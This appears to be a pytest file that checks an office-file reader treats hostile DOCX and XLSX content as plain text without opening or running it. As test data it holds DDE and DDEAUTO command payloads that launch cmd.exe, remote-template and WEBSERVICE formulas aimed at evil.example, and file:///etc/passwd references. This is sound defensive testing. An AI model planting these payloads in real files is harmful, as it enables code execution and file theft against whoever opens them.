"""Office files that point elsewhere or carry commands: their letters are taken, nothing is opened or run."""

from __future__ import annotations

import io
import socket
import zipfile

import pytest

from generator.intake.read import read
from generator.intake.shape import OfficeFile
from tests.intake.office import docx, p, xlsx

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind: str, target: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELS}"><Relationship Id="rId9" Type="{DOC}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def read_alone(name: str, data: bytes) -> OfficeFile:
    """What a file holds, read while nothing else can be opened and nobody asked."""

    def no(*args: object, **more: object) -> None:
        raise AssertionError(f"opened: {args}")

    read(name, data)  # loads what reading needs
    with pytest.MonkeyPatch.context() as patch:
        for name_ in ("connect", "connect_ex"):
            patch.setattr(socket.socket, name_, no)
        patch.setattr(socket, "getaddrinfo", no)
        patch.setattr("builtins.open", no)
        return read(name, data)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"), ("oleObject", "file:///etc/passwd"),
        ("image", "\\\\\\\\evil.example\\\\share\\\\x.png"), ("subDocument", "../../../etc/passwd"),
        ("frame", "http://evil.example/"), ("hyperlink", "javascript:alert(1)"),
    ],
)  # fmt: skip
def test_a_document_opens_nothing_that_it_points_to(kind: str, target: str) -> None:
    more = {"word/_rels/document.xml.rels": relation(kind, target)}
    body = (
        p("派出所")
        + f'<w:p><w:hyperlink xmlns:r="{DOC}" r:id="rId9"><w:r><w:t>看这里</w:t></w:r></w:hyperlink></w:p>'
    )
    made = read_alone("a.docx", docx(body, **more))
    assert [one.text for one in made.paragraphs] == ["派出所", "看这里"]


def test_field_commands_of_word_are_neither_run_nor_taken() -> None:
    command = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
    body = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{command}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>值班室</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"><w:r><w:t>司法所</w:t></w:r></w:fldSimple></w:p>'
    )
    assert [one.text for one in read_alone("a.docx", docx(body)).paragraphs] == ["值班室", "司法所"]


@pytest.mark.parametrize(
    "formula",
    ["=cmd|'/C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", '=HYPERLINK("http://evil.example","点")',
     "='http://evil.example/[x.xlsx]a'!A1", "=[1]名单!A1", '=WEBSERVICE("http://evil.example")'],
)  # fmt: skip
def test_formulas_and_dde_of_a_sheet_stay_letters(formula: str) -> None:
    made = read_alone("a.xlsx", xlsx([("单位", "职务"), (formula, "所长")]))
    cell = made.tables[0].rows[1][0]
    assert (cell.text, cell.flaw) == (formula, "formula")


def test_a_workbook_opens_no_other_workbook() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx([("单位", "职务"), ("派出所", "所长")]))) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as hostile:
        for name, part in parts.items():
            if name == "xl/_rels/workbook.xml.rels":
                own = relation("externalLink", "file:///etc/passwd").partition("<Relationship Id")[2]
                part = part.replace(b"</Relationships>", b"<Relationship Id" + own.encode())
            hostile.writestr(name, part)
    rows = read_alone("a.xlsx", out.getvalue()).tables[0].rows
    assert [[cell.text for cell in row] for row in rows] == [["单位", "职务"], ["派出所", "所长"]]
